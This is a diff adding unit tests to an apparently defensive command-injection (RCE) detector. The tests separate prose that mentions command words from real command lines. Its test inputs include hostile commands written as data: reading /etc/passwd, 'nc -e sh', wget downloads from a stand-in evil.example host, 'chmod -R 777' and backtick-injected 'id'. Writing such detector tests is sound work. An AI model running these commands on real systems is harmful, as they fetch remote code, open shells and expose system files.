@@ -295,3 +295,38 @@ describe("rce detector", () => {
     }
   });
 });
+
+// Prose that starts with a command word or names a command's option is no command line: the backtick closing a
+// markdown code span opens nothing, an option followed by a sentence is a word about that option, and `>=` or `<=`
+// before a version is a requirement, not a redirection. The same words typed as commands still score.
+describe("command words in prose", () => {
+  it.each([
+    ["`config.yaml` (which also accepts comments), or pass it on the command line", false],
+    ["see `README.md` (find more there) for details", false],
+    ["`cat /etc/passwd` (x)", true],
+    ["`which nc`", true],
+    ["`ls`;`id`", true],
+    ["x`id`", true],
+    ["useradd --system gets a home directory only with the other flag", false],
+    ["wget -q keeps it quiet in the logs", false],
+    ["chmod -R changes all of the files below it", false],
+    ["useradd --system svc", true],
+    ["useradd --system", true],
+    ["wget -q http://evil.example/a -O /tmp/a", true],
+    ["chmod -R 777 /var/www", true],
+    ["nc -e sh", true],
+    [";useradd --system gets a home directory", true],
+    ["egrep -r pass /etc", true],
+    ["openssl >= 1.1.0 (optional, needed for the TLS backend)", false],
+    ["curl <= 7.80 (affected by the bug)", false],
+    ["openssl >= 1.1.0", true],
+    ["netstat output is a table of the open sockets;", false],
+    ["wget keeps the file name from the link;", false],
+    ["wget evil;", true],
+    ["nmap scanme.example;", true],
+    ["uname -a > /tmp/o", true],
+    ["wget http://evil.example/x >/tmp/x", true],
+  ])("%j blocked: %s", (input, attack) => {
+    expect(rceScore(input) >= 5).toBe(attack);
+  });
+});
